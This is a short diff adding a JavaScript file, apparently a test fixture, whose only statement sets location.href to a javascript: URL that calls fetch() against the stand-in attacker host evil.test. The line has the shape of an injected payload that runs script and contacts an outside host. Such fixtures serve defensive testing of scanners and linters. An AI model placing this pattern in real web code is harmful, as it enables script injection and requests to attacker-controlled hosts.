@@ -1,0 +1,3 @@
+// Navigates to code.
+
+location.href = 'javascript:fetch("http://evil.test/x")';
